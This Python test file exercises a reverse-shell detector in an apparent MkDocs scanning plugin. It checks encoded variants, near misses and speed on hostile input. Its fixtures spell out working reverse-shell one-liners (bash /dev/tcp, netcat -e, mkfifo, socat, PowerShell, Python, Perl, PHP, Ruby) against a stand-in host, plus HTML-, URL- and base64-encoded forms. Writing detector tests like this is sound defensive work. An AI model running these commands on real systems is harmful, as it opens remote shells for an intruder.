"""reverse-shell (CAC402): true positives, encoded variants and near misses, in process."""

from __future__ import annotations

import base64
import html
import time
import urllib.parse

import pytest

from mkdocs_threatpub.scanners.base import Hit
from mkdocs_threatpub.scanners.detectors.reverse_shell import DETECTOR
from mkdocs_threatpub.scanners.document import Document, Segment, document_from_text
from tests.detectors._network import translated

BASH = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def scan(text: str) -> list[Hit]:
    return translated(list(DETECTOR.scan(document_from_text(text))))


def fenced(body: str, lang: str = "") -> str:
    return f"Intro.\n\n```{lang}\n{body}\n```\n"


@pytest.mark.parametrize(
    ("body", "lang", "kind"),
    [
        (BASH, "bash", "/dev/tcp redirection"),
        (
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
            "",
            "/dev/tcp redirection",
        ),
        ("nc -e /bin/sh 10.0.0.1 4242", "bash", "netcat exec"),
        ("ncat --exec cmd.exe 10.0.0.1 4242", "", "netcat exec"),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
            "sh",
            "mkfifo pipe",
        ),
        ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", "", "socat exec"),
        ("socat TCP-LISTEN:4242,reuseaddr,fork EXEC:/bin/sh", "", "socat exec"),
        (
            '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4242);'
            "$stream = $client.GetStream();while(($i = $stream.Read($b, 0, $b.Length)) -ne 0)"
            "{$data = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$out = (iex $data 2>&1)}",
            "powershell",
            "PowerShell TCPClient",
        ),
        (
            'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));'
            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
            "python",
            "Python socket and dup2",
        ),
        (
            'perl -e \'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in(4242,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
            "",
            "Perl socket and exec",
        ),
        (
            'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
            "",
            "PHP fsockopen and exec",
        ),
        (
            'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
            "",
            "Ruby TCPSocket and exec",
        ),
    ],
)
def test_shell_one_liners_in_code_are_strong(body: str, lang: str, kind: str) -> None:
    hits = scan(fenced(body, lang))
    assert hits, body
    assert all(h.strong and h.rule == "CAC402" and h.line == 4 for h in hits)
    assert any(kind in h.what for h in hits), [h.what for h in hits]
    where = f"a {lang} code block" if lang else "a code block"
    assert all(h.what.endswith(where) for h in hits)


def test_entities_that_hide_the_whole_command_are_decoded() -> None:
    # Every character an entity: the raw text holds no "/dev/tcp" at all.
    hidden = "".join(f"&#x{ord(ch):x};" for ch in BASH)
    assert "/dev/tcp" not in hidden
    hits = scan(f"<string>{hidden}</string>\n")
    assert [h.what for h in hits] == [
        "reverse shell (/dev/tcp redirection) in prose (HTML-entity-encoded)"
    ]
    assert hits[0].strong


def test_entities_around_redirections_as_in_an_xml_exploit_request() -> None:
    body = '<void index="2">\n<string>bash -i &gt;&amp; /dev/tcp/10.0.0.1/21 0&gt;&amp;1</string>\n</void>'
    hits = scan(fenced(body))
    assert hits
    assert {h.line for h in hits} == {5}
    assert any("HTML-entity-encoded" in h.what for h in hits)


def test_double_encoded_entities() -> None:
    once = html.escape(BASH)
    twice = once.replace("&", "&amp;")
    hits = scan(f"Payload: {twice}\n")
    assert any(h.strong and "HTML-entity" in h.what for h in hits)


def test_url_encoding_is_decoded() -> None:
    request = f"GET /cgi-bin/status?c={urllib.parse.quote(BASH, safe='')} HTTP/1.1"
    assert "/dev/tcp" not in request
    hits = scan(fenced(request))
    assert [h.what for h in hits] == [
        "reverse shell (/dev/tcp redirection) in a code block (URL-encoded)"
    ]


def test_base64_run_is_decoded_once() -> None:
    blob = base64.b64encode(BASH.encode()).decode()
    hits = scan(fenced(f"echo {blob} | base64 -d | bash", "bash"))
    assert len(hits) == 1
    assert (
        hits[0].what == "reverse shell (/dev/tcp redirection) in a bash code block (base64-encoded)"
    )
    assert hits[0].line == 4


def test_findings_never_quote_the_command() -> None:
    page = fenced("nc -e /bin/sh 10.0.0.1 4242") + fenced(BASH)
    for h in scan(page):
        assert "10.0.0.1" not in h.what
        assert "4242" not in h.what
        assert "/bin/sh" not in h.what
        assert len(h.fingerprint) == 32


def test_same_command_hashes_the_same_wherever_it_is() -> None:
    first = scan(fenced(BASH))
    second = scan("# Title\n\nSome prose.\n\n" + fenced(BASH, "sh"))
    assert first[0].fingerprint == second[0].fingerprint
    assert first[0].line != second[0].line


@pytest.mark.parametrize(
    "text",
    [
        # The words, without a command.
        "A reverse shell connects back to the attacker; a bind shell listens for them. "
        "The flaw lets an attacker obtain a reverse shell as the web server user.",
        "## Reverse shell\n\nThe attacker then opened a reverse shell (not shown).\n",
        # /dev/tcp as a Bash feature, with no host and port.
        "Bash treats /dev/tcp and /dev/udp as special files when built with "
        "--enable-net-redirections.",
        "Redirections to `/dev/tcp/HOST/PORT` are a Bash feature.",
        # netcat port checks and listeners without -e.
        fenced("nc -zv db.example.org 5432\nnc -l 8080\nnc -l -p 9000 > backup.tar", "bash"),
        fenced("nc -w 3 -v example.org 443 </dev/null", "sh"),
        # socat relays without exec.
        fenced("socat TCP-LISTEN:8080,fork TCP:backend.example.org:80"),
        # Plain socket code.
        fenced(
            "s = socket.socket()\ns.connect(('example.org', 443))\ns.sendall(b'ping')", "python"
        ),
        fenced(
            '$c = New-Object System.Net.Sockets.TCPClient("example.org", 443)\n$c.Connected',
            "powershell",
        ),
        "Run `mkfifo /tmp/queue` to create a named pipe for the log shipper.",
    ],
)
def test_near_misses(text: str) -> None:
    assert scan(text) == []


def test_prefilter_keywords_are_lower_case() -> None:
    assert all(k == k.lower() for k in DETECTOR.keywords)


@pytest.mark.parametrize(
    "text",
    [
        "a" * 100_000,
        " " * 5_000 + "x",
        "nc " * 30_000,
        "socat " + "exec:" * 20_000,
        "/dev/tcp/" * 10_000,
        "```\n" + ("mkfifo " + "| sh " * 50) * 400 + "\n```",
    ],
)
def test_linear_time_on_hostile_input(text: str) -> None:
    started = time.perf_counter()
    scan(text)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("kind", ["code", "prose"])
@pytest.mark.parametrize(
    "text",
    [
        "a" * 100_000,
        " " * 100_000,
        "nc -e " * 16_000,
        "socat " * 16_000 + "tcp:",
        "mkfifo |sh|" * 9_000,
    ],
)
def test_linear_time_past_the_document_line_cap(kind: str, text: str) -> None:
    # document_from_text cuts lines at MAX_LINE; a detector must not rely on that.
    doc = Document([Segment(kind, text, 1)])
    started = time.perf_counter()
    list(DETECTOR.scan(doc))
    assert time.perf_counter() - started < 1.0
